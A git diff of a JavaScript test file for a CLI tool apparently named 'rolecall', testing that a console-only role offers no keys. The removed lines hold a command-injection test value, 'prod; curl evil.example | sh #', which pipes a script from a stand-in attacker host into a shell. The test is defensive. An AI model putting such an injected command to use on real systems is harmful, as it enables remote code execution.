@@ -187,13 +187,10 @@ test.each([
   await expect(failing).rejects.not.toThrow('secret-of-the-keys')
 })
 
-test.each([
-  ['prod', 'prod/Admin'],
-  ['prod; curl evil.example | sh #', `${account.id}/Admin`],
-])('a role that gives the console alone gives no keys: %s', async (name, word) => {
+test('a role that gives the console alone gives no keys', async () => {
   const forms = ['console']
   const { origin } = await serverWith(() => ({
-    '/api/v1/roles': roles({ ...account, alias: name, roles: [{ ...role, forms }] }),
+    '/api/v1/roles': roles({ ...account, roles: [{ ...role, forms }] }),
     '/api/v1/me': me,
   }))
   const { parts, connection } = signedIn(origin)
@@ -203,7 +200,7 @@ test.each([
   expect(offered.keys).toBe(false)
   await expect(signed.keys(offered, {})).rejects.toMatchObject({
     reason: 'noRole',
-    hint: `open it: rolecall console -a work ${word}`,
+    hint: 'open it: rolecall console -a work prod/Admin',
   })
 })
 
